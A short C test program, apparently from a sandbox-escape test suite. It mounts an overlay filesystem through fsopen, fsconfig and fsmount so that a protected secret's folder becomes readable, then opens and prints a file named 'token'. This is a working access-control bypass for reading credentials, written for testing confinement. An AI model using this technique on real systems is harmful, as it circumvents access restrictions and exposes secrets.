/* Needs: root. The same through fsopen and fsconfig. */
#include "../attack.h"
int main(void)
{
	mkdir("other", 0700);
	int fs = (int)syscall(SYS_fsopen, "overlay", 0);
	if (fs < 0 || syscall(SYS_fsconfig, fs, 1, "lowerdir", text("%s:%s/other", folder_of(SECRET), ALLOWED), 0) < 0 || syscall(SYS_fsconfig, fs, 6, NULL, NULL, 0) < 0)
		return 1;
	int tree = (int)syscall(SYS_fsmount, fs, 0, 1 /* RDONLY */);
	return tree < 0 ? 1 : show(openat(tree, "token", O_RDONLY));
}
